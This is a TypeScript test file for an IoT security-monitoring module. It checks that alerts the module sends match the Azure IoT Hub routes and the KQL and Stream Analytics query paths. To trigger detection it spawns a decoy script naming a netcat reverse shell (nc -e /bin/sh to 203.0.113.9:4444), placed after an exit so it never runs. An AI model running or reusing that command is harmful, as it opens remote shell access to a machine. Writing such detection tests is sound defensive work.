/**
 * What an operator puts behind IoT Hub (`etc/azure`), against messages that a real module sent: the conditions of the
 * hub's routes in the rig's routing engine, and the paths that the queries follow. No Azure service is asked, and neither
 * Kusto nor Stream Analytics runs here: etc/azure/README.md says what that leaves open. Needs no rights.
 */
import { spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type AlertId, alertIds } from "../src/alerts/catalogue.ts";
import { parseCondition } from "./rig/condition.ts";
import { eventually } from "./rig/host/child.ts";
import { type Module, polls, startModule } from "./rig/host/module.ts";
import type { UpstreamMessage } from "./rig/message.ts";

/** Of the kernel's audit there is one for all suites, and nothing here needs it. */
const quiet = { sources: { auditNetlink: false } };
/** Says the name of a miner, and nothing else. */
const miner = "sleep 1; echo cpuminer-multi";
/** Ends before the shell that it names. */
const shell = "sleep 1; exit; nc -e /bin/sh 203.0.113.9 4444";

function deed(script: string): void {
  spawn("sh", ["-c", script], { stdio: "ignore" });
}

interface HubRoute {
  readonly name: string;
  readonly condition: string;
  readonly endpointNames: readonly string[];
}

const azure = join(import.meta.dirname, "../etc/azure");
const hubRoutes = (JSON.parse(readFileSync(join(azure, "routes.json"), "utf8")) as { routes: HubRoute[] }).routes;

describe("what stands upstream, given messages that a real module sent", () => {
  const sent: UpstreamMessage[] = [];
  let module: Module;

  beforeAll(async () => {
    module = await startModule({
      awaited: ["processes"],
      env: { DOCKER_HOST: "unix:///nowhere.sock" },
      desired: quiet,
    });
    module.rig.upstream.subscribe((message) => void sent.push(message));
    await polls(module);
    deed(miner);
    deed(shell);
    await module.next("crypto-miner-process");
    await module.next("reverse-shell");
    module.rig.setDesired({ ...quiet, heartbeat: { intervalMinutes: 59 }, nonsense: true });
    await module.next("twin-config-parse-failure");
    await module.rig.invokeMethod("testAlert", {});
    await eventually("a heartbeat and the test alert", () => sent.some(isHeartbeat) && sent.some(isTest));
  });
  afterAll(() => module?.stop());

  const isHeartbeat = ({ output }: UpstreamMessage) => output === "heartbeat";
  const isTest = ({ properties }: UpstreamMessage) => properties.test === "true";
  const alertOf = (id: string) =>
    sent.find(({ properties }) => properties.alertId === id && properties.test !== "true");

  /** Names of the routes that take a message, as IoT Hub would: all that match. */
  function taken(message: UpstreamMessage | undefined): string[] {
    if (!message) throw new Error("it was not sent");
    const routed = { ...message, body: Buffer.from(message.body) };
    return hubRoutes.filter(({ condition }) => parseCondition(condition)(routed)).map(({ name }) => name);
  }

  test("each message takes the routes that are meant for it", () => {
    expect(taken(alertOf("reverse-shell"))).toEqual(["vedette-high", "vedette-alerts"]);
    expect(taken(alertOf("crypto-miner-process"))).toEqual(["vedette-alerts"]);
    expect(taken(alertOf("twin-config-parse-failure"))).toEqual(["vedette-alerts", "vedette-own-state"]);
    expect(taken(sent.find(isHeartbeat))).toEqual(["vedette-heartbeats"]);
    expect(taken(sent.find(isTest))).toEqual(["vedette-alerts"]);
  });

  test("telemetry of others stays where it was, and nothing of ours is lost", () => {
    const other = {
      ...(sent[0] as UpstreamMessage),
      properties: { temperature: "warm" },
      output: "out",
      moduleId: "plc",
    };
    expect(taken(other)).toEqual(["everything-else"]);
    for (const message of sent) expect(taken(message)).not.toEqual([]);
    expect(hubRoutes.map(({ name }) => name)).toEqual([...new Set(hubRoutes.map(({ name }) => name))]);
  });

  test("each path of the KQL and of the Stream Analytics query is one that messages have", () => {
    const bodies = sent.map(({ body }) => JSON.parse(body));
    const kql = readFileSync(join(azure, "vedette.kql"), "utf8").replaceAll(/\/\/.*/g, "");
    const paths = new Set<string>();
    for (const [, from = "", path = ""] of kql.matchAll(/\b(Body|Info|Evidence)((?:\.\w+|\['\w+'\]|\[\d\])+)/g))
      paths.add(`${roots[from]}${path.replaceAll(/\['(\w+)'\]/g, ".$1").replaceAll(/\[(\d)\]/g, ".$1")}`);
    const stream = readFileSync(join(azure, "stream-analytics.asaql"), "utf8").replaceAll(/--.*/g, "");
    for (const [, path = ""] of stream.matchAll(/\bi((?:\.\w+|\.\[\w+\])+)/g))
      paths.add(
        path
          .slice(1)
          .replaceAll(/[[\]]/g, "")
          .replace(/^Evidence\b/, "evidences.0"),
      );
    expect(paths.size).toBeGreaterThan(40);
    const seen = (path: string) => bodies.some((body) => at(body, path.replace(/^\./, "")) !== undefined);
    // Evidence that these deeds do not leave; described with its OCSF objects in src/pipeline/evidence.ts.
    const elsewhere = /^evidences\.0\.(?:container|file|url|user|src_endpoint|dst_endpoint)\b/;
    expect([...paths].filter((path) => !seen(path) && !elsewhere.test(path))).toEqual([]);
  });

  test("the alerts that the routes and queries name are in the catalogue", () => {
    const texts = ["routes.json", "vedette.kql"].map((name) => readFileSync(join(azure, name), "utf8")).join("\n");
    const lists = [...texts.matchAll(/(?:Alert in \(([^)]*)\)|alertId = '([\w-]+)')/g)];
    const named = lists.flatMap(([, list, one]) =>
      one ? [one] : [...(list ?? "").matchAll(/"([\w-]+)"/g)].map((m) => m[1]),
    );
    expect(named.length).toBeGreaterThan(15);
    expect(named.filter((id) => !alertIds.includes(id as AlertId))).toEqual([]);
  });
});

const roots: Readonly<Record<string, string>> = { Body: "", Info: "finding_info", Evidence: "evidences.0" };

function at(value: unknown, path: string): unknown {
  return path.split(".").reduce<unknown>((inner, key) => (inner as Record<string, unknown> | undefined)?.[key], value);
}
